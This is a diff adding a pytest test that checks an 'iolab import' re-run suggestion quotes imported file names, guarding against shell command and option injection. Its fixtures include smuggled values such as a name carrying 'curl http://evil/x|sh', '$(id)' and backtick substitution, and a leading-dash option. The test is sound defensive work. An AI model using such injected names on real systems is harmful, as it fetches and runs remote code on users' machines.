@@ -93,3 +93,20 @@ def test_a_study_without_a_readable_file_names_no_command():
     assert _asked("?") == {}
     assert _asked('name = "x"')["command"] == ()
     assert _asked('command = ["iozone", "-a"]')["command"] == ("iozone", "-a")
+
+
+@pytest.mark.parametrize(
+    ("file", "word"),
+    [
+        ("x.csv", "x.csv"),
+        ("x.csv; curl http://evil/x|sh #", "'x.csv; curl http://evil/x|sh #'"),
+        ("t$(id); x.csv", "'t$(id); x.csv'"),
+        ("--unit", "./--unit"),
+        ("-`id`", "'./-`id`'"),
+        ("it's", """'it'"'"'s'"""),
+    ],
+)
+def test_the_name_of_an_imported_file_is_one_word_and_no_option(file, word):
+    """The advice to import it again was a command that anybody could write, by a file's name."""
+    study = replace(STUDY, kind="imported", testbed=f"imported:{file}")
+    assert command_again(study) == f"iolab import {word}"
